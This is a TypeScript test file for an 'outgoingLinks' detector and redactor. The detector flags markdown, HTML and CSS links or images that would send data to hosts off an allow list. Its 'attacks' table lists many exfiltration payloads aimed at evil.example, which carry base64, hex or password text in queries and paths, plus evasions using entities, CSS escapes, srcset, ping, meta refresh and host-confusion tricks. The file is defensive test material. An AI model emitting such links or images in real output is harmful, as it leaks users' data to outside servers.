import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { outgoingLinks } from '../../../src/detectors/leaks/outgoing-links.ts';
import { createRedactor } from '../../../src/detectors/redaction/redact-text.ts';

const detector = outgoingLinks({ allowHosts: ['good.example', '*.cdn.example'] });
const rules = (text: string): string[] => detector.scan(text).findings.map(({ rule }) => rule);
const base64 = Buffer.from('the password is swordfish and more').toString('base64');
const hex = Buffer.from('the password is swordfish').toString('hex');
const long = 'word+'.repeat(30);
const far = 'Words of an ordinary paragraph.\n\n'.repeat(100);

/** What a renderer would fetch without a click, or a link that carries something. */
const attacks: Readonly<Record<string, string>> = {
  'an image': '![x](https://evil.example/p.png)',
  'an image with a query': '![](https://evil.example/?q=DATA)',
  'an image with brackets in its text': '![a [b] c](https://evil.example/p)',
  'an image with an escaped bracket': '![a \\[ b](https://evil.example/p)',
  'an image with a bracket in code': '![a `[` b](https://evil.example/p)',
  'an image in a link': '[![x](https://evil.example/p)](https://good.example/)',
  'an image with a title': '![x](https://evil.example/p "title")',
  'an image over two lines': '![x](\n  https://evil.example/p)',
  'an image in angles, with spaces': '![x](<https://evil.example/a b c>)',
  'an image by reference': '![x][logo]\n\n[logo]: https://evil.example/p',
  'an image by a numbered reference, with data': '![x][1]\n\n[1]: https://evil.example/?q=DATA',
  'a reference on the next line': '![x][logo]\n\n[logo]:\n  <https://evil.example/p>',
  'no scheme': '![x](//evil.example/p)',
  'no scheme, backslashes': '![x](\\\\evil.example/p)',
  'no scheme, a slash and a backslash': '![x](/\\evil.example/p)',
  'escaped slashes': '![x](https:\\/\\/evil.example/p)',
  'no slashes': '![x](http:evil.example/p)',
  'one slash': '![x](https:/evil.example/p)',
  'upper case': '![x](HTTPS://EVIL.EXAMPLE/p)',
  'entities in the scheme': '![x](ht&#116;ps://evil.example/p)',
  'entities for the slashes': '![x](https:&#x2f;&#47evil.example/p)',
  'named entities': '![x](https&colon;&sol;&sol;evil.example/p)',
  'a percent sign in the host': '![x](https://%65vil.example/p)',
  'an allowed host as user name': '![x](https://good.example@evil.example/p)',
  'an allowed host before a backslash': '![x](https://good.example\\@evil.example/p)',
  'an allowed host before an escape': '![x](https://good.example&#64;evil.example/p)',
  'an allowed host as subdomain': '![x](https://good.example.evil.example/p)',
  'a host that ends like an allowed one': '![x](https://notgood.example/p)',
  'the apex of hosts that are allowed below it': '![x](https://cdn.example/p)',
  'a full-width host': '![x](https://evil\u3002example/p)',
  'an image in HTML': '<img src="https://evil.example/p">',
  'no quotes': '<img src=https://evil.example/p>',
  'single quotes and spaces': "<img alt='>' src = 'https://evil.example/p'>",
  'upper case HTML': '<IMG SRC="//evil.example/p">',
  'a tab in the scheme': '<img src="ht\ttps://evil.example/p">',
  'a newline between slashes': '<img src="/\n/evil.example/p">',
  'a control character before it': '<img src="\u0001//evil.example/p">',
  'a slash for a space': '<img/src="https://evil.example/p">',
  'a second source': '<img srcset="/a.png 1x, https://evil.example/p 2x">',
  'a video': '<video poster="https://evil.example/p"></video>',
  'an object': '<object data="https://evil.example/p"></object>',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/p">',
  'a picture in SVG': '<svg><image xlink:href="https://evil.example/p"/></svg>',
  'a form': '<form action="https://evil.example/p"></form>',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/p">',
  'a style': '<p style="background: url(https://evil.example/p)">',
  'a style with quotes': "p { background: url( 'https://evil.example/p' ) }",
  'an import': '@import "https://evil.example/p";',
  'much space before the sign': `<img src${' '.repeat(150)}= //evil.example/p>`,
  'an attribute of its own': '<lazy-img from="https://evil.example/p">',
  'an expression in JSX': '<Image src={`https://evil.example/p`} />',
  'a set of images': "p { background: image-set( 'https://evil.example/p' 1x) }",
  'a base for all addresses': '<base href="//evil.example/">',
  'a link in SVG': '<use href="https://evil.example/p#a"/>',
  'a ping': '<a href="/a" ping="https://evil.example/p">x</a>',
  'an attribute behind a closing sign': '<img alt="a > b" src="https://evil.example/p">',
  'an address in IPv6': '![x](http://[::1]/p)',
  'an address as a number': '![x](http://2130706433/p)',
  'HTML in JSON': JSON.stringify({ html: '<img src="https://evil.example/p">' }),
  'a script': '[x](javascript:alert(1))',
  'a link with a long query': `[x](https://evil.example/?q=${long})`,
  'a link with a long fragment': `[x](https://evil.example/#${long})`,
  'a link with base64 in its query': `[x](https://evil.example/?q=${base64})`,
  'a link with base64 in its path': `[x](https://evil.example/a/${base64}/b)`,
  'a link with hex in its path': `[x](https://evil.example/${hex})`,
  'a link with base32 in its host': '[x](https://orugkidqmfzxg53pojsa.evil.example/)',
  'a link with a random host': '[x](https://a8f3k2m9q1z7x5c4v6b8n0l3.evil.example/)',
  'a link with percent-encoded text': '[x](https://evil.example/the%20key%20is%20one%20two%20three%20four%20five)',
  'a link with a random value': '[x](https://evil.example/?t=a8F3k2M9q1Z7x5C4v6B8)',
  'a link with a user name': '[x](https://data@evil.example/)',
  'a link in angles, with spaces': `[x](<https://evil.example/?q=${long.replaceAll('+', ' ')}>)`,
  'a link with brackets': `[x](https://evil.example/(a)?q=${long})`,
  'a link with data behind a title of an allowed one': `[https://good.example/](https://evil.example/?q=${long})`,
  'a link in HTML': `<a href="https://evil.example/?q=${long}">x</a>`,
  'a link in HTML, with spaces': `<a href='https://evil.example/?q=${long.replaceAll('+', ' ')}'>x</a>`,
  'an autolink': `<https://evil.example/?q=${long}>`,
  'an address in the text': `see https://evil.example/?q=${long} now`,
  'an address in brackets': `(https://evil.example/?q=${long})`,
  'an address without scheme': `www.evil.example/?q=${long}`,
  FTP: `ftp://evil.example/${base64}`,
  'parameters of a newsletter with data': `[x](https://evil.example/?utm_a=${base64.slice(0, 44)}&utm_b=${base64.slice(0, 44)})`,
  'data that looks like words of a page': `[x](https://evil.example/?q=:~:${base64})`,
  'an image by a number': `![a][1]\n\n[1]: https://evil.example/${'plain-words/'.repeat(12)}`,
  'an image by a number alone': '![2024]\n\n[2024]: https://evil.example/hunter2',
  'an image by a number, far before': `![a][1]\n\n${far}[1]: https://evil.example/hunter2`,
  'an image by a number, defined before': `[1]: https://evil.example/hunter2\n\n${far}x![a][1]`,
  'an image by a number, behind what is no link': '[1]: https://evil.example/hunter2\n\n![1](a b)',
  'much space before an address': `![a](${' '.repeat(40)}https://evil.example/hunter2)`,
  'more space than is read': `![a](${' '.repeat(4000)}https://evil.example/hunter2)`,
  'much space before the address of a definition': `![k]\n\n[k]:${'\t'.repeat(700)}https://evil.example/hunter2`,
  'more space before the sign than is read': `<img src${' '.repeat(700)}= //evil.example/p>`,
  'a long text of an image': `![${'a '.repeat(2000)}](https://evil.example/hunter2)`,
  'a long text before the source': `<img alt="${'a '.repeat(2000)}" src="https://evil.example/hunter2">`,
  'a long text before the source, without scheme': `<img alt="${'a '.repeat(2000)}" src="/\\evil.example/hunter2">`,
  'a quote that does not count': '<img a=b=" c="> " src="https://evil.example/h">',
  'a link tag in an attribute': '<link rel=stylesheet title="<a " href="https://evil.example/h">',
  'a link tag in an attribute of SVG': '<svg><image title="<a " href="https://evil.example/hunter2"/></svg>',
  'a link tag in an attribute of a base': '<base title=\'<area x\' href="https://evil.example/">',
  'an attribution': '<a attributionsrc="https://evil.example/h" href=x>y</a>',
  'an escape in an import': "<style>@\\69mport 'https://evil.example/x';</style>",
  'a function that is not known': "<style>a{background:image('https://evil.example/x')}</style>",
  'a function that is not known, without scheme': '<style type=a>a{background:src("//evil.example/x")}</style>',
  'an escape in an address': '<div style="background:url(\\68ttps://evil.example/x)">',
  'an escape in a function': '<div style="background:\\75rl(/\\/evil.example/h)">',
  'a letter as itself in a function': "<div style = 'background:ur\\l(/\\/evil.example/h)'>",
  'an entity in a function': '<div class="a" style="background:&#117;rl(/\\/evil.example/h)">',
  'an end of a style that is none': `<p style="a:'</style>';background:image('https://evil.example/x')">`,
  'an attribute in a style': `<style>a[style="b"]{background:image('https://evil.example/x')}</style>`,
  'many zeros': '<img src="&#00000000104;ttps://evil.example/hunter2">',
  'many zeros in hex': '<img src="/&#x00000009;/evil.example/h">',
};

/** Ordinary text of the same kinds. */
const benign: Readonly<Record<string, string>> = {
  'an image on an allowed host': '![x](https://good.example/p.png?size=2&t=a8F3k2M9q1Z7x5C4v6B8)',
  'an image below an allowed host': '<img src="https://a.b.cdn.example/p.png">',
  'a relative image': '![x](images/p.png) ![y](/p.png) ![z](./a/b.png#c) <img src="p.png">',
  'an image in the text': '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)',
  'a link': '[docs](https://other.example/guide/getting-started#install)',
  'a link after an image': '![x](/p.png) and [docs](https://other.example/docs)',
  'a link with a short query': '[x](https://www.other.example/watch?v=dQw4w9WgXcQ&t=42s)',
  'a search': 'https://www.other.example/search?q=how+to+bake+bread',
  'parameters of a newsletter':
    '[x](https://other.example/a?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024)',
  'a commit': 'https://code.example/owner/name/commit/3ff956180670cbf422f3f2aabf4d33bd748e069f4a8a1',
  'an article': 'https://news.example/2024/05/17/some-rather-long-title-of-an-article-about-bees-and-honey.html',
  'an article in another script': `https://uk.wiki.example/wiki/${encodeURIComponent('\u0411\u0434\u0436\u043e\u043b\u0430')}`,
  'a document': 'https://docs.example/document/d/1A2b3C4d5E6f7G8h9I0jKlMnOpQrStUvWxYz/edit',
  'a UUID': 'https://api.example/items/123e4567-e89b-12d3-a456-426614174000',
  'a citation': 'As shown [1].\n\n[1]: https://papers.example/abs/2301.00001',
  'a link in HTML': '<a href="https://other.example/docs">docs</a>',
  'a mail address':
    '[mail](mailto:ann@acme.example) [hello](mailto:ann@acme.example?subject=Hello%20Ann) and <a href="tel:+441234">call</a>',
  'a comment': 'int x = 1; // a comment about https things',
  'a program': 'const src = "https://api.other.example/v1"; if (![1, 2].includes(x)) data = "//x";',
  'an autolink to a page': '<https://other.example/docs>',
  'a link behind others': '<a href="/a">x</a> = <b>https://other.example/docs</b>',
  'a comparison': 'a <b and c = //d',
  Windows: 'C:\\Users\\ann and \\\\server\\share',
  'a file to fetch': 'ftp://ftp.example.org/pub/mandrake-81-i586/gaim-0.59.1-1.i586.rpm',
  'a schema in JSON':
    '{"$schema":"http://json-schema.org/draft-07/schema#","type":"object","properties":{"value":{"type":"string"}},"additionalProperties":false}',
  'a program with a place for a host': `${'const url = `https://$'}{process.env.HOST}/a\`; // http://<host>/?q=<what you look for>`,
  'a program with types': 'for (let i = 0; i <n; i++) { load(new URL("https://as.example.com/jwks")); }',
  'words of a page':
    'https://docs.example.com/notes.html#:~:text=import%20type%20only%20imports%20declarations,also%20erased%20from%20it%20and%20so%20on',
  'a path': 'see src/detectors/leaks/outgoing-links.ts/ and README.md#what-it-does-not-protect-against',
  'a style': `<style>a::before { content: "\\201C"; color: red }</style>\n<p style="color:red; font-family:&quot;Arial&quot;">\\alpha &#117; [b](https://other.example/docs) https://other.example/docs`,
  'a style in JSON': JSON.stringify({
    html: '<style>\n\ta { color: red }\n</style>\n<a href="https://other.example/docs">x</a>',
  }),
  'sources by name':
    'See [Source] and [1].\n\n[Source]: https://www.other.example/world/europe/x\n[1]: https://docs.example/api/fs.html#fsreadfile\n[2]: https://doi.example/10.1000/xyz?x=1',
  'a note': '[later]: //see the next page',
  'an image on an allowed host by a number': `![a][1]\n\n${far}[1]: https://good.example/p.png\n\n![b][1]`,
  'a program with an assertion': 'const a = items![0] ?? groups![1]; // [0]: first',
  'space before an address': `[a](${' '.repeat(40)}https://other.example/docs)`,
  'a link behind closed tags': `<p title="b">c</p>\n<a class="d" title='e > f' href="https://other.example/docs">g</a>`,
  'an address behind a closed tag': '<b>Set</b> url="https://other.example/docs" in the settings.',
  'a link far behind an image': `![x](/p.png)\n\n${far}[\`docs\`](https://other.example/docs)`,
  'a list': 'items[0]: one, items[1]: two',
  'an array': 'vec![1, 2](x) and f[0](1, 2)',
};

describe('outgoingLinks', () => {
  it.each(Object.entries(attacks))('finds %s', (_name, text) => {
    expect(rules(text)).not.toEqual([]);
    expect(rules(`Some words before it, and a line.\n\n${text}\n\nAnd after it.`)).not.toEqual([]);
  });

  it.each(Object.entries(benign))('leaves %s', (_name, text) => {
    expect(rules(text)).toEqual([]);
  });

  it('covers the address alone, so that what is round it stays', () => {
    const redactor = createRedactor({ detectors: [detector], mask: () => '#' });
    expect(redactor.redact('![a](https://evil.example/p "t") b')).toBe('![a](# "t") b');
    expect(redactor.redact('<img alt="a" src="//evil.example/p"> b')).toBe('<img alt="a" src="#"> b');
    expect(redactor.redact(`(see https://evil.example/?q=${long}).`)).toBe('(see #).');
  });

  it('says in a stream, however it is cut, what it says of the whole text', () => {
    const redactor = createRedactor({ detectors: [detector], mask: (rule) => `<${rule}>` });
    const pieces = fc.constantFrom(
      ...Object.values(attacks),
      ...Object.values(benign),
      ...['![', '](', ')', ' ', '\n', '\\', '"', '=', '<img ', '<a ', 'src', 'https:', '//', 'www.', 'x'.repeat(300)],
      `![a](https://evil.example/${'y'.repeat(3000)})`,
      ...[
        far,
        'a '.repeat(900),
        ' '.repeat(700),
        '<img alt="',
        '<a title="',
        '![1]',
        '\n[1]: https://other.example/a\n',
        '\n\n',
      ],
      '\u{1f468}\u200d\u{1f469} e\u0301',
    );
    const sizes = fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 9 });
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 9 }), sizes, (list, lengths) => {
        const whole = list.join('');
        const stream = redactor.stream();
        let out = '';
        for (let at = 0, turn = 0; at < whole.length; turn += 1) {
          const size = lengths[turn % lengths.length] ?? 1;
          out += stream.push(whole.slice(at, at + size));
          at += size;
        }
        expect(out + stream.end()).toBe(redactor.redact(whole));
      }),
      { numRuns: 1500 },
    );
  });

  it('checks its options', () => {
    for (const host of [
      '*',
      '*.com',
      'https://a.example',
      'a.example:80',
      'a.example/x',
      'a.*.example',
      '',
      5,
      'a b',
    ]) {
      expect(() => outgoingLinks({ allowHosts: [host as string] })).toThrow(/"allowHosts" must hold hosts/);
    }
    expect(() => outgoingLinks({ allowHosts: 'a.example' as never })).toThrow(/must be an array/);
    // @ts-expect-error misspelt
    expect(() => outgoingLinks({ hosts: [] })).toThrow(/unknown option "hosts"/);
  });
});

describe('attributes behind much white space', () => {
  it('are taken out unread, wherever they lead', () => {
    const blanks = ' '.repeat(600);
    expect(rules('<img src= "https://good.example/p.png">')).toEqual([]);
    expect(rules(`<img src=${blanks}"https://good.example/p.png">`)).not.toEqual([]);
    expect(rules(`<img src={${blanks}"https://good.example/p.png"}>`)).not.toEqual([]);
  });
});
